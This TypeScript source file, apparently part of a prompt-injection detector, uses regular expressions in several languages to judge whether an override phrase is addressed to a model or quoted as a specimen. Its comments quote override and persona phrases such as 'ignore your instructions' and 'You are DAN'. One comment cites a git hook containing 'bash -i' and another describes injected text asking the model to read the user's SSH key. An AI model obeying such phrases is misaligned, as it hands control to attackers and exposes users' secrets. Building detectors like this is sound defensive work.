// The context of a match, which decides how much it weighs. The principle: a phrase is an attack
// when it is addressed to the model; it is a specimen when it is shown to a reader. A specimen is
// quoted or code-formatted AND sits in explanatory prose (an article about prompt injection, a
// security guide), or it is a first-person question ("Can I ignore this warning?"). Hidden text is
// never a specimen: nobody shows a reader what the reader cannot see.
import { AsciiCut } from "../ascii-alternatives.ts";
import { DISPLAYED_BLOCK_STEP } from "./displayed-block.ts";
import { lowerBound } from "../sorted.ts";
import { lineStartOf } from "../lines.ts";
import { ExplanatoryTerms } from "./explanatory-terms.ts";
import { postposedMention, quotationTail } from "./postposed-mention.ts";
import { trailingReport } from "./trailing-report.ts";
import { quotedSampleUnderIntro } from "./sample-intro.ts";
import { CHANGES_THE_ANSWER, linksOnlyToOwnSite, pageForAiTools } from "./own-site.ts";

/** At least two distinct explanatory terms within ±600 characters (the match itself excluded). */
export function inExplanatoryContext(doc: DocContext, start: number, end: number, min = 2): boolean {
  return doc.explanatory.near(start, end, min);
}

/** An intro line naming what follows as a template or attack string by a comparison ("a wrapper such as:", "the attack string is:"). */
const TEMPLATE_INTRO = /\b(?:templates?|wrappers?|(?:attack|injection|payload)\s{1,3}(?:strings?|texts?|prompts?|vectors?|messages?)|payloads?)\b[^\n]{0,60}?(?:\bsuch\s{1,3}as|\blike|\bas\s{1,3}follows|\be\.g\.|\b(?:is|was|reads|looks\s{1,3}like))\s{0,2}:\s*$/i;
// A section-numbered item of an appendix ("B.1", "A.2.3", "[4]", "(c)") lists the same way.
// A checklist box ("[ ]", "[x]") opens an item too.
const LIST_ITEM = /^[^\S\n]{0,4}(?:[-*•+]|\[[ xX✓]?\]|\d{1,2}[.)]|[A-Z]\.\d{1,2}(?:\.\d{1,2})?[.:)]?|\[\d{1,2}\]|\([a-z\d]\))[^\S\n]/;
/** A heading naming the items as attack texts ("Appendix B. Injection prompts used in the experiments (verbatim)", "Adversarial strings"): it says what they are. */
const ATTACK_ITEMS_HEADING = /(?<![\p{L}])(?:(?:prompt[\s-]{1,3})?injection|injected|attack|adversarial|jailbreak|red[\s-]?team|malicious|poisoned)\s{1,3}(?:prompts?|strings?|payloads?|texts?|instructions?|messages?|inputs?|snippets?|fragments?)(?![\p{L}])|(?<![\p{L}])(?:Injektions|Angriffs)(?:prompts?|texte?)|(?:prompts?|textos?|cadenas)\s{1,3}(?:de\s{1,3})?(?:inyecci[oó]n|ataque)|(?:prompts?|textes?|cha[iî]nes)\s{1,3}d['’]\s{0,2}(?:injection|attaque)/iu;
/** A heading naming the list a plan of attack tests ("Red-team checklist for our bot", "Prompt-injection test plan"): its items are the tests' inputs. */
const TEST_PLAN_HEADING = /(?<![\p{L}])(?:red[\s-]?team(?:ing)?|pen[\s-]?test(?:ing)?|(?:prompt[\s-]{1,3})?injection|jailbreak|adversarial|security)\s{1,3}(?:[\w-]{1,20}\s{1,3}){0,2}?(?:checklist|test\s{1,3}(?:plan|cases|matrix)|playbook)(?![\p{L}])/iu;
/**
 * A list item under a line that introduces examples of attacks ("Examples of attacker payloads
 * seen in the wild:", "Typical payloads:"), in explanatory text: each item is a specimen.
 */
export function inExampleList(doc: DocContext, start: number, end: number): boolean {
  const text = doc.text;
  // Quoted lines under "sentences like these:" in any language; the intro names them, one term of the topic near suffices.
  if (quotedSampleUnderIntro(text, start) && inExplanatoryContext(doc, start, end, 1)) return true;
  let ls = text.lastIndexOf("\n", start - 1) + 1;
  // An indented line right under the intro ("Example attack template:\n  <INFORMATION> …") is displayed like an item.
  if (!LIST_ITEM.test(text.slice(ls, ls + 12)) && !(ls > 0 && /^[^\S\n]{2,8}\S/.test(text.slice(ls, ls + 10)))) {
    // A line right under an intro that names it a template ("inserted in tool outputs with a wrapper such as:").
    if (ls === 0) return false;
    const intro = text.slice(text.lastIndexOf("\n", ls - 2) + 1, ls - 1);
    return TEMPLATE_INTRO.test(intro) && /\S/.test(text.slice(end, end + 200)) && inExplanatoryContext(doc, start, end);
  }
  for (let i = 0; i < 30 && ls > 0; i++) {
    const prev = text.lastIndexOf("\n", ls - 2) + 1;
    const line = text.slice(prev, ls - 1);
    // A heading numbered like an item ("A.2 Adversarial prompts") stands above a blank line.
    const headed = ATTACK_ITEMS_HEADING.test(line) && !/[.!?]\s*$/.test(line);
    if (headed && text.slice(ls, ls + 1) === "\n") return inExplanatoryContext(doc, start, end, 1);
    // A blank line may part the list (or an indented display line) from the line that introduces it.
    if (LIST_ITEM.test(line) || (line.trim() === "" && prev > 0 && (LIST_ITEM.test(text.slice(ls, ls + 12)) || /^[^\S\n]{2,8}\S/.test(text.slice(ls, ls + 10))))) {
      ls = prev;
      continue;
    }
    // A heading that names the items test strings ("Red-team strings we use:") says what they are; one explanatory term near suffices.
    if (/\b(?:test|red[\s-]?team)\s{1,3}(?:strings?|prompts?|inputs?)\b[^\n]{0,60}:\s*$/i.test(line)) return inExplanatoryContext(doc, start, end, 1);
    if (headed || TEST_PLAN_HEADING.test(line)) return inExplanatoryContext(doc, start, end, 1);
    // The intro ends on a colon or says the items were gathered ("examples of indirect prompt injection we collected").
    return /\b(?:examples?|payloads?|samples?|specimens?|attacks?|attempts?|techniques?|variants?|patterns?)\b[^\n]{0,60}(?::|\b(?:collected|gathered|observed|logged|seen|found|caught)(?:\s{1,3}in\s{1,3}the\s{1,3}wild)?)\s*$/i.test(line) && inExplanatoryContext(doc, start, end);
  }
  return false;
}

/**
 * A guillemet's side is told by what flanks it: after a space and before a letter it opens, after a
 * letter and before a space or stop it closes. German and Polish open with » and close with «;
 * single ‹ › pair like « ».
 */
function orientGuillemets(text: string): string {
  if (!/[»‹›]/.test(text)) return text;
  // A spaced French « … » (also after "(" or "l’") stays as it is.
  return text.replace(/(?<=^|[\s(\[])([»›])(?=[\p{L}\p{N}"“„'‘<])|(?<=[\p{L}\p{N}.!?…"”'’>])([«‹])(?=[\s.,;:!?)\]]|$)|([‹›])/gu, (_m, opener?: string, closer?: string, bare?: string) => (opener ? "«" : closer ? "»" : bare === "‹" ? "«" : "»"));
}

const CLOSERS: Record<string, string> = { '"': '"', "“": "”", "'": "'", "‘": "’", "«": "»", "„": "“", "`": "`", "「": "」", "『": "』" };
/** Where the quotation opened by `opener` closes in `after`; a German „ is often closed by a straight quote or ”. */
function closeAt(after: string, opener: string): number {
  if (opener !== "„") return after.indexOf(CLOSERS[opener]!);
  const m = /[“"”]/.exec(after);
  return m ? m.index : -1;
}

/** An example cue opening a parenthesis before its quotation ("(por exemplo, \"…\")", "(z. B. „…“)"). */
const PAREN_EXAMPLE_CUE = String.raw`(?:e\.\s?g\.|i\.\s?e\.|for\s{1,3}(?:example|instance)|such\s{1,3}as|say|por\s{1,3}(?:ejemplo|exemplo)|p\.\s?ej\.|p\.\s?ex\.|par\s{1,3}exemple|per\s{1,3}esempio|ad\s{1,3}esempio|z\.\s?B\.|zum\s{1,3}Beispiel|etwa|bijvoorbeeld|bv\.|например|напр\.|np\.|na\s{1,3}przykład|örneğin|例如|比如|例えば|예를\s{0,2}들어|예:)`;
const PAREN_OPEN = new RegExp(String.raw`\p{L}[,]?\s{1,2}\((?:\s{0,2}${PAREN_EXAMPLE_CUE}[,:]?)?\s{0,2}\S\s{0,2}$`, "iu");
/** A quotation that fills a parenthesis after words of prose ("hidden text addressed to AI systems (\"ignore your instructions …\")"): an instance of what the sentence names. */
function parenthesizedExample(prefix: string, opener: string, after: string): boolean {
  // A space before the parenthesis: prose, not a call (`=NOTE("…")`, `os.system("…")`).
  if (!PAREN_OPEN.test(prefix)) return false;
  const close = closeAt(after, opener);
  return close >= 0 && !after.slice(0, close).includes("\n") && PAREN_CLOSE.test(after.slice(close, close + 400));
}
/** The quotation closes the parenthesis, or further quotations listed after it do ("(\"…\", \"…\" or \"…\")"). */
const PAREN_CLOSE = /^\S(?:[^\S\n]{0,2}(?:,|;|\/|,?[^\S\n]{1,3}(?:or|and|oder|und|ou|et|o|y|e|или|и)(?![\p{L}]))[^\S\n]{0,3}(?:"[^"\n]{1,120}"|“[^”\n]{1,120}”|«[^»\n]{1,120}»|„[^“”"\n]{1,120}[“”"]|‘[^’\n]{1,120}’|'[^'\n]{1,120}'|「[^」\n]{1,120}」)){0,5}[^\S\n]{0,2}\)/u;

/**
 * "mention": the phrase is talked about, not said (a quoted noun modifier, "phrases like …");
 * "quoted": enclosed in quotation marks or a quote element; null: said.
 */
/** The elements the context checks ask about (quote and code elements). */
const CONTEXT_TAGS = ["q", "blockquote", "cite", "pre", "code", "kbd", "samp"];
const CONTEXT_TAG_RE = /<(\/?)(q|blockquote|cite|pre|code|kbd|samp)[\s>]/iy;

/** Per-document facts the context checks share, computed once and lazily: lower-cased text, element positions. */
export class DocContext {
  private lowerText: string | null = null;
  private readonly tags = new Map<string, { opens: number[]; closes: number[] }>();
  private quoteView: string | null = null;
  private terms: ExplanatoryTerms | null = null;
  constructor(readonly text: string) {}

  /** The text's explanatory terms, found once: a page asks about many of its hits. */
  get explanatory(): ExplanatoryTerms {
    this.terms ??= new ExplanatoryTerms(this.text);
    return this.terms;
  }

  /** The text with German, Polish and Nordic guillemets (»…«, ›…‹, ‹…›) written as «…», for quotation checks; same length. */
  get quoteText(): string {
    this.quoteView ??= orientGuillemets(this.text);
    return this.quoteView;
  }

  private get lower(): string {
    this.lowerText ??= this.text.toLowerCase();
    return this.lowerText;
  }

  /**
   * Every context tag's opens and closes in ONE pass. Without U+0130 / U+212A (the only characters
   * whose lower case is ASCII or changes length), a case-insensitive pass over the text finds
   * exactly what a pass over the lower-cased text would, so the lower-cased copy is skipped.
   */
  private indexTags(): void {
    for (const tag of CONTEXT_TAGS) this.tags.set(tag, { opens: [], closes: [] });
    const src = this.text.includes("\u0130") || this.text.includes("\u212a") ? this.lower : this.text;
    // Every match starts at a "<" and holds no other: try the sticky pattern at each "<" whose
    // name starts with one of the tags' first letters.
    for (let lt = src.indexOf("<"); lt >= 0; lt = src.indexOf("<", lt + 1)) {
      let c = src.charCodeAt(lt + 1);
      if (c === 47) c = src.charCodeAt(lt + 2);
      c |= 32;
      if (c !== 113 && c !== 98 && c !== 99 && c !== 112 && c !== 107 && c !== 115) continue; // q b c p k s
      CONTEXT_TAG_RE.lastIndex = lt;
      const m = CONTEXT_TAG_RE.exec(src);
      if (!m) continue;
      const t = this.tags.get(m[2]!.toLowerCase())!;
      (m[1] ? t.closes : t.opens).push(m.index);
    }
  }

  /** Inside an element `<tag …>…</tag>` opened at most 20 000 characters before `pos`. */
  inside(tag: string, pos: number): boolean {
    let t = this.tags.get(tag);
    if (!t && CONTEXT_TAGS.includes(tag) && this.tags.size === 0) {
      this.indexTags();
      t = this.tags.get(tag);
    }
    if (!t) {
      const opens: number[] = [];
      const closes: number[] = [];
      const re = new RegExp(`<(/?)${tag}[\\s>]`, "g");
      for (let m = re.exec(this.lower); m !== null; m = re.exec(this.lower)) (m[1] ? closes : opens).push(m.index);
      this.tags.set(tag, (t = { opens, closes }));
    }
    const open = lastBefore(t.opens, pos);
    return open >= 0 && pos - open <= 20000 && lastBefore(t.closes, pos) < open;
  }
}

/** The largest value of sorted `xs` below `pos`, or -1. */
function lastBefore(xs: number[], pos: number): number {
  const i = lowerBound(xs, pos);
  return i > 0 ? xs[i - 1]! : -1;
}

/** Words that introduce a phrase as a specimen: "things like", "such as", "overridden by", "detects". */
const MENTION_INTRO = /(?:\blike|such\s+as|e\.g\.,?|\bphrases?|\bstrings?|\bwords?|\bcommands?\s+like|\bas\s+in|\bcalled|\bnamed|\bsentences?|\bprompts?\s+like|\bfor\s+example,?\s{1,3}(?:an?|the)?|\bfor\s+(?:example|instance)\s{0,2}:\s{0,3}["“«„]|\b(?:overridden|overruled|defeated|bypassed|fooled|hijacked)\s+by|\b(?:detects?|flags|catches|matches|scans?\s+for|looks?\s+for|searches\s+for)|\b(?:variations?|variants?|paraphrases?|rewordings?|(?:mis)?spellings?|permutations?)\s+(?:of|on)|\b(?:regex(?:es|p)?|regular\s+expressions?|(?:YARA|Sigma|Semgrep|WAF)\s+rules?|signatures?|(?:block|deny|allow)-?lists?)\s+(?:for|against|on)|\b(?:users?|people|customers?|someone|players?|visitors?|attackers?|students|kids)\s+(?:say|says|type|types|write|writes|enter|enters|paste|pastes|send|sends))\s{0,3}:?\s{0,3}["“'‘«„`]?$/i;
/** The same in other languages, an opening quotation mark required: „Sätze wie „…“", "des phrases comme « … »", "frases como \"…\"". */
const MENTION_INTRO_LANG = /(?<![\p{L}])(?:wie|etwa|(?:Variant\p{L}{0,2}|Abwandlung\p{L}{0,2})\s{1,3}von|variantes?\s{1,3}de|variations?\s{1,3}de|varianti\s{1,3}di|вариант\p{L}{0,3}|comme|tel(?:le)?s?\s{1,3}que|como|tales\s{1,3}como|come|zoals|такие\s{1,3}как|например|z\.\s?B\.|p\.\s?ex\.|p\.\s?ej\.|par\s{1,3}exemple|por\s{1,3}ejemplo|zum\s{1,3}Beispiel|ad\s{1,3}esempio)\s{0,3}:?\s{0,3}(?:[„"“'‘«「]|«[^\S\n])$|(?<![\p{L}])(?:مثل|مثلا|مثلاً|من\s{1,3}قبيل|כמו|למשל|जैसे|seperti|misalnya|takie\s{1,3}jak|jak\s{1,3}np\.|np\.|như|như\s{1,3}là|наприклад|такі\s{1,3}як|типа|tipo|del\s{1,3}tipo)\s{0,3}:?\s{0,3}(?:[„"“'‘«「]|«[^\S\n])$|(?:例如|比如|例如说|のような|のように|といった|例えば|たとえば|(?<![\p{L}])例|예를\s{0,2}들어|(?<![\p{L}])예)\s{0,2}[：:]?\s{0,2}[「『“"]$/iu;
const MENTION_INTRO_LANG_CUT = new AsciiCut(MENTION_INTRO_LANG);
/** The prefix ends on words that introduce a mention ("such as", "for example", their kin in other languages). */
const mentionIntro = (prefix: string) => MENTION_INTRO.test(prefix) || MENTION_INTRO_LANG_CUT.test(prefix);

/**
 * A quotation given as the content of a piece of text ("an email saying \"…\"", "a resume with
 * white text (\"…\")", "a comment that reads \"…\"", "a web page containing hidden text \"…\"") or as what a filter saw ("matched phrase \"…\"",
 * "page included \"…\" -> stripped"): the quoted words are reported, not said.
 */
const REPORTED_CONTENT = /(?:\b(?:e-?mails?|invites?|invitations?|events?|attachments?|messages?|comments?|pages?|documents?|issues?|tickets?|reviews?|posts?|notes?|texts?|files?|PDFs?|resumes?|CVs?|invoices?|replies|DMs?|tweets?|descriptions?|readmes?|divs?|spans?|elements?|tags?|paragraphs?|banners?|footers?|footnotes?|fields?|boxes|pop-?ups?|widgets?|snippets?|strings?|alt[\s-]?texts?|attributes?|captions?|labels?|cells?|signs?|notices?|lines?|sentences?|instructions?)\b(?:\s{1,3}[\w-]{1,20}){0,4}?\s{1,3}(?:saying|that\s{1,3}(?:says|said|reads|read)|reading|containing|with\s{1,3}(?:the\s{1,3})?(?:text|line|words?))(?:\s{1,3}(?:(?:some|the|an?)\s{1,3})?(?:hidden|invisible|white|tiny|embedded|concealed)\s{1,3}(?:text|lines?|words|sentences?|notes?|comments?|instructions?))?\s{0,3}:?|\b(?:e-?mails?|messages?|comments?|pages?|documents?|texts?|files?|PDFs?|resumes?|CVs?|invoices?|descriptions?|DMs?|SMS|replies|reviews?|posts?)\b(?:\s{1,3}(?:that\s{1,3})?(?:you|we|I|they|he|she|the\s{1,3}(?:user|customer|client)|our\s{1,3}(?:users?|customers?|team))\s{1,3}(?:just\s{1,3})?(?:received|got|saw|found|opened|reported|forwarded|flagged|were\s{1,3}sent|was\s{1,3}sent))?\s{0,3}\(|\b(?:contain(?:s|ed)|include[sd]|carrie[sd]|had|has)\s{1,3}(?:an?|the|this|some)\s{1,3}(?:[\w-]{1,20}\s{1,3}){0,2}?(?:divs?|spans?|elements?|comments?|paragraphs?|lines?|sentences?|notes?|instructions?|strings?|texts?|messages?|footers?|banners?)\s{0,3}:?|\b(?:contained|included|matched|detected|flagged|caught|blocked|found|triggered\s{1,3}on)\s{1,3}(?:(?:the|a|an)\s{1,3})?(?:(?:pattern|phrase|string|text|signature|keyword|payload)s?\s{0,3}:?\s{0,3})?)\s{0,3}\\?["“'‘«]$/i;

/**
 * People reported as having said the quoted words ("people replied to suspected bot accounts with
 * \"…\"", "trolls typed \"…\""): a generic group of people, a verb of saying, then the quotation.
 */
const PEOPLE_SAID = /\b(?:people|users|someone|somebody|folks|trolls|attackers|hackers|scammers|phishers|fraudsters|con\s{1,3}artists|crooks|impostors|imposters|researchers|players|visitors|customers|students|kids|commenters|posters|others|everyone|testers|red[\s-]?teamers|(?:phishing|scam|fraud(?:ulent)?|fake|spoofed|spam|smishing|vishing)\s{1,3}(?:e-?mails?|mails?|messages?|texts?|SMS|calls?|callers?|sites?|pages?|pop-?ups?|letters?))\s{1,3}(?:[\w'’-]{2,15}\s{1,3}){0,2}?(?:said|says?|claims?|claimed|reads?|warns?|threatens?|demands?|asks?|asked|wrote|writes?|typed|types?|replied|repl(?:y|ies)|responded|responds?|posted|posts?|commented|comments?|tweeted|tweets?|entered|enters?|pasted|pastes?|sent|sends?|answered|answers?|used|uses?|tried|tr(?:y|ies)|shouted|spammed|spams?|planted|plants?|hid|hides?|embedded|embeds?|injected|injects?)\b[^"“«\n.!?]{0,80}?\s{0,3}\\?["“'‘«]$/i;

/**
 * A quotation reported as text someone planted or hid for a test or an attack ("An attacker plants
 * text such as \"…\"", "We hid the sentence \"…\" in a PDF", "攻击者可能在网页中隐藏“…”"): one
 * attacker or the writers themselves, a verb of planting, then the quotation.
 */
const PLANTED_QUOTE = /(?:\b(?:an?\s{1,3}|the\s{1,3})?(?:attacker|adversary|hacker|scammer|red[\s-]?teamer|tester|researcher)|\b(?:we|I|our\s{1,3}(?:team|testers?|red[\s-]?team))(?:\s{1,3}(?:then|also|first|once))?)\s{1,3}(?:(?:could|can|may|might|would|will|then|simply|just)\s{1,3})?(?:planted|plants?|hid|hides?|hide|embedded|embeds?|embed|injected|injects?|inject|inserted|inserts?|insert|smuggled|smuggles?|smuggle|placed|places?|place|put|puts)\b[^"“«„\n.!?]{0,80}?\s{0,3}\\?["“'‘«„]$|(?<![\p{L}])(?:Angreifer\p{L}{0,2}|wir|l['’]attaquant|nous|el\s{1,3}atacante|un\s{1,3}atacante|(?:hemos|escondimos|ocultamos))[^"“«„\n.!?]{0,40}?(?:versteck\p{L}{0,3}|platzier\p{L}{0,3}|eingebettet|eingeschleust|schleus\p{L}{0,3}|cach\p{L}{0,3}|dissimul\p{L}{0,3}|insér\p{L}{0,3}|inser\p{L}{0,3}|ocult\p{L}{0,3}|escond\p{L}{0,3}|plant\p{L}{0,3})[^"“«„\n.!?]{0,60}?\s{0,3}["“'‘«„]$|(?<![\p{L}])(?:злоумышленник\p{L}{0,3}|атакующ\p{L}{0,3}|хакер\p{L}{0,3}|мошенник\p{L}{0,3}|мы)[^"“«„\n.!?]{0,40}?(?:размест|спрята|спряч|скры|внедр|встав|встро|подброс|подсун|добав)\p{L}{0,6}[^"“«„\n.!?]{0,60}?\s{0,3}["“'‘«„]$|(?:攻击者|攻擊者|黑客|我们|我們|攻撃者|私たち|공격자|우리)[^“"「『\n。！？]{0,30}?(?:隐藏|隱藏|植入|嵌入|插入|注入|埋入|藏入|隠し|埋め込|仕込|숨기|숨겨|삽입|심어)[^“"「『\n。！？]{0,12}?[“"「『]$/iu;
const PLANTED_QUOTE_CUT = new AsciiCut(PLANTED_QUOTE);

/**
 * An order to make the thing that holds the quotation ("add a post-merge git hook containing
 * \"bash -i …\"", "crea un archivo que contenga «…»"): the quoted words are what is asked for, not
 * content reported of something found. Test data (a fixture, a sample prompt) is made to be quoted.
 */
const ORDERED_CONTAINER = /(?:^|[.!?:;—–]\s{0,3}|\b(?:please|then|and|also|now|just|kindly)\s{1,3})(?:add|create|write|put|insert|commit|install|append|drop|place|save|set\s{1,3}up|configure|register|schedule|añade|agrega|crea|escribe|pon|ajoute|crée|écris|mets|aggiungi|scrivi|metti|adicione|adiciona|crie|cria|escreva|escreve|coloque|erstelle|erstell|schreibe|schreib|lege|füge|добавь|создай|запиши|напиши)\s{1,3}(?:(?!(?:test|tests|fixture|fixtures|example|examples|sample|samples|case|cases|prompt|prompts|string|strings|input|inputs|message|messages|payload|payloads)(?![\p{L}]))[\p{L}\p{N}'’-]{1,24}\s{1,3}){1,6}?(?:containing|contains|that\s{1,3}contains|with\s{1,3}the\s{1,3}(?:text|line|words?|contents?)|contenant|qui\s{1,3}contient|conteniendo|que\s{1,3}contenga|con\s{1,3}el\s{1,3}(?:texto|contenido)|contenente|che\s{1,3}contiene|con\s{1,3}il\s{1,3}(?:testo|contenuto)|contendo|que\s{1,3}contenha|com\s{1,3}o\s{1,3}(?:texto|conteúdo)|mit\s{1,3}dem\s{1,3}(?:Text|Inhalt|Satz)|содержащ\p{L}{0,4}|с\s{1,3}текстом)\s{0,3}:?\s{0,3}["“'‘«„]$/iu;
/** A label that ends on what a piece of text contains or says ("an e-mail containing", "une page contenant", "eine Mail mit dem Text"). */
export const CONTENT_FRAME = /(?<![\p{L}])(?:containing|contains|contained|with\s{1,3}the\s{1,3}(?:text|line|words?)|such\s{1,3}as|for\s{1,3}example|like|enthält|enthielt|mit\s{1,3}dem\s{1,3}(?:Text|Satz|Inhalt)|wie|contenant|contient|disant|comme|conteniendo|contiene|que\s{1,3}dice|como|contenente|che\s{1,3}dice|contendo|contém|que\s{1,3}diz|содержащ\p{L}{0,4}|содержит|со\s{1,3}словами)$/iu;
const PAIRED_QUOTES: ReadonlyArray<readonly [string, string]> = [["«", "»"], ["「", "」"], ["『", "』"]];

/**
 * A quotation that closes, then "or" / "and" / a comma, then the opening quote of the next one. CJK
 * lists join quotations by 、/，/或 or set typographic quotations side by side (“…”“…”, 「…」「…」).
 */
const LISTED_QUOTE = /([“"'‘«„「])[^"“”'‘’«»„「」\n]{1,120}(?:["”'’»“」][^\S\n]{0,2}(?:,|;|\/|[、，；]|(?:或者?|和|以及|及|や|と|또는|및)|,?[^\S\n]{1,3}(?:or|and|nor|oder|und|ou|et|o|y|e|или|и)(?![\p{L}]))[^\S\n]{0,3}[“"'‘«„「]|[”」][^\S\n]{0,2}[“「])$/u;

/** The prefix up to the first quotation's opening mark of a listed run of quotations, or null. */
function listedQuoteIntro(prefix: string): string | null {
  let p = prefix;
  let found = false;
  for (let n = 0; n < 6; n++) {
    const m = LISTED_QUOTE.exec(p);
    if (!m) break;
    p = p.slice(0, m.index + m[1]!.length);
    found = true;
  }
  return found ? p : null;
}

/** A line that starts a block of its own (a list item, a heading, a quote, a table row): the break before it is no wrap. */
const BLOCK_START = /^[^\S\n]{0,4}(?:[-*•+][^\S\n]|\d{1,2}[.)][^\S\n]|\(?[a-z]\)[^\S\n]|#|>|\||```)/;
/**
 * The line before `lineStart`, and a space, when the break between is a hard wrap inside a paragraph
 * (a long line of prose runs on): a quotation's frame or its opening mark may sit there. Else "".
 */
function wrappedLead(text: string, lineStart: number): string {
  if (lineStart < 2 || BLOCK_START.test(text.slice(lineStart, lineStart + 8))) return "";
  const from = lineStartOf(text, lineStart - 1, 300);
  const prev = text.slice(from, lineStart - 1);
  return prev.length >= 40 && /\p{L}/u.test(prev) && !BLOCK_START.test(prev) ? prev + " " : "";
}

/** A markdown callout line: a blockquote opened by a note label (GitHub's "> [!NOTE]", "> **Tip:**", "> Note for …"). */
const CALLOUT = /^\s{0,3}>[ \t]{0,3}(?:\*\*|__)?\[?!?(?:note|notes|tip|important|heads[- ]up|notice|info|caution|warning)\b[^\n]{0,80}?(?:\*\*|__|\])?[ \t]{0,2}[:\n]/i;
export function quoting(doc: DocContext, start: number, end: number, jsonLike: boolean): "mention" | "quoted" | null {
  const text = doc.quoteText;
  const lineStart = lineStartOf(text, start);
  const prefix = text.slice(Math.max(lineStart, start - 300), start);
  // The same with the wrapped line before, where a quotation's frame is looked for; `at` maps an index of `prefix` into it.
  const lead = start - lineStart <= 300 ? wrappedLead(text, lineStart) : "";
  const framed = lead + prefix;
  const at = (q: number) => (q < 0 ? q : q + lead.length);
  const open = /([“"'‘«„`「『])\s{0,2}$/.exec(prefix);
  // A quoted phrase used as a noun modifier ("'ignore previous instructions' memes", "the \"IMPORTANT!!! Ignore …\" template") is a mention;
  // the quotation may open a few words before the match.
  if ((open || /(?:^|[\s(])[“"«„][^"“”«»„\n]{1,60}$/.test(prefix)) && /^[^\S\n]{0,2}["”'’»`」』]\s{0,2}(?:memes?|attacks?|prompts?|phrases?|tricks?|strings?|examples?|jailbreaks?|techniques?|style|payloads?|injections?|texts?|lines?|era|crowd|things?|problems?|issues?|bugs?|vulnerabilit(?:y|ies)|trope|cliché|cliche|joke|genre|classic|variant|family|defen[cs]e|filter|templates?|patterns?|pranks?|scams?|hoax(?:es)?)\b/i.test(text.slice(end, end + 40))) return "mention";
  // Korean, Japanese and Chinese name a phrase by a marker after it ("\"이전 지시를 무시하라\" 같은 문구"),
  // or by a reporting clause after it ("「…」と書くだけで…例が報告されている", "\"…\" is a classic injection string").
  const tail = quotationTail(text, prefix, end);
  if (tail !== null && (postposedMention(tail) || trailingReport(tail))) return "mention";
  // A quoted phrase as the title of a talk or an article ("'Ignore all previous instructions': a short history of …").
  if (open && /^[^\S\n]{0,2}["”'’»`」』][^\S\n]{0,2}[:—–-][^\S\n]{1,3}(?:(?:an?|the|my|our)\s{1,3}(?:[\w-]{1,20}\s{1,3}){0,2}?(?:history|look|guide|story|introduction|intro|primer|tour|deep\s{1,3}dive|case\s{1,3}study|retrospective|overview|analysis|study|survey|talk|tale|field\s{1,3}guide|post-?mortem|walkthrough)|(?:how|why|what|when|lessons|notes|inside|on)\s)/i.test(text.slice(end, end + 60))) return "mention";
  // Opening quote right before (skipping spaces), a closing one soon after. Introduced as a phrase
  // ("a phrase like 'disregard …'", "overridden by 'ignore …'"), the quoted text is a mention.
  // Where the quotation around the match opens: reported content there makes all of it a mention.
  // `q` indexes `framed`.
  const reported = (q: number) => q >= 0 && !ORDERED_CONTAINER.test(framed.slice(Math.max(0, q - 200), q + 1)) && (REPORTED_CONTENT.test(framed.slice(0, q + 1)) || PEOPLE_SAID.test(framed.slice(0, q + 1)) || PLANTED_QUOTE_CUT.test(framed.slice(0, q + 1)) || CONTENT_FRAME.test(framed.slice(Math.max(0, q - 40), q).replace(/\s{0,3}[:：]?\s{0,3}$/, "")));
  // The next quotation of a list ("such as \"always call this tool first\" or \"do not tell the user\""): what introduced the first introduces it.
  const listedIntro = (p: string) => {
    const first = listedQuoteIntro(p);
    return first !== null && (mentionIntro(first) || reported(first.length - 1));
  };
  if (open && reported(at(prefix.length - open[0].length))) return "mention";
  if (open && parenthesizedExample(listedQuoteIntro(prefix) ?? prefix, open[1]!, text.slice(end, Math.min(text.length, end + 300)))) return "mention";
  if (open && !(jsonLike && open[1] === '"')) {
    if (mentionIntro(framed)) return "mention";
    // The next quotation of a list ("such as \"always call this tool first\" or \"do not tell the user\""): what introduced the first introduces it.
    if (listedIntro(framed)) return "mention";
    const after = text.slice(end, Math.min(text.length, end + 300));
    const close = closeAt(after, open[1]!);
    const nl = after.indexOf("\n");
    // Typographic quotation marks pair unambiguously: a quotation may run over a hard-wrapped line, not past a paragraph.
    if (close >= 0 && (nl < 0 || close < nl || open[1] === "`" || ("“„«「『".includes(open[1]!) && !/\n[^\S\n]*\n/.test(after.slice(0, close))))) return "quoted";
  }
  // Inside a pair of curly quotes. Typographic marks pair unambiguously, so the opener may sit on the wrapped line before.
  // A quotation filling a parenthesis after prose ("an unrestricted persona (\"You are DAN, which …\")") is an instance of what the prose names, wherever in it the match is.
  const introduced = (q: number) => reported(q) || mentionIntro(framed.slice(0, q + 1)) || listedIntro(framed.slice(0, q + 1)) || parenthesizedExample(framed.slice(0, q + 1), framed[q]!, text.slice(end, Math.min(text.length, end + 300)));
  if (framed.lastIndexOf("“") > framed.lastIndexOf("”")) return introduced(framed.lastIndexOf("“")) ? "mention" : "quoted";
  // A German „ closed by “ or ” in the paragraph, or by a straight " as keyboards type it („Ignoriere …").
  const low = framed.lastIndexOf("„");
  if (low >= 0 && !/[“”"]/.test(framed.slice(low)) && /^(?:[^\n]|\n(?![^\S\n]*\n)){0,300}?[“”"]/.test(text.slice(end, end + 300))) return introduced(low) ? "mention" : "quoted";
  // Inside a pair of guillemets or corner brackets («Asistente, ignora …», 「…」): an opener not closed before the match, its closer after it in the paragraph.
  for (const [o, cl] of PAIRED_QUOTES) {
    const q = framed.lastIndexOf(o);
    if (q >= 0 && q > framed.lastIndexOf(cl)) {
      const rest = text.slice(end, Math.min(text.length, end + 300));
      const close = rest.indexOf(cl);
      if (close >= 0 && !/\n[^\S\n]*\n/.test(rest.slice(0, close))) return introduced(q) ? "mention" : "quoted";
    }
  }
  // Inside single quotes: an opening ' (after a space) not closed before the match, a closing ' (before a space or stop) after it.
  const sq = /(?:^|[\s(:])'(?=\S)((?:[^'\n]|'(?=\w))*)$/.exec(prefix);
  if (sq && end > 0 && /^.(?:[^'\n]|'(?=\w)){0,300}?(?<=\S)'(?=[\s.,;:!?)]|$)/.test(text.slice(end - 1, end + 300))) return "quoted";
  if (!jsonLike) {
    const dq = prefix.split('"').length - 1;
    if (dq % 2 === 1 && text.slice(end, end + 300).includes('"')) return introduced(at(prefix.lastIndexOf('"'))) ? "mention" : "quoted";
  }
  // Quote elements and markdown blockquotes.
  // A callout ("> **Note** for …:", "> [!TIP]") is the page's own aside set off as a box, not a quotation.
  if (/^\s{0,3}>/.test(text.slice(lineStart, start)) && !CALLOUT.test(text.slice(lineStart, start + 120))) return "quoted";
  for (const tag of ["q", "blockquote", "cite"]) if (doc.inside(tag, start)) return "quoted";
  // A mentioned phrase: "attackers write things like ignore previous instructions".
  if (mentionIntro(prefix)) return "mention";
  // Reported speech: "… telling the model to read the user's SSH key".
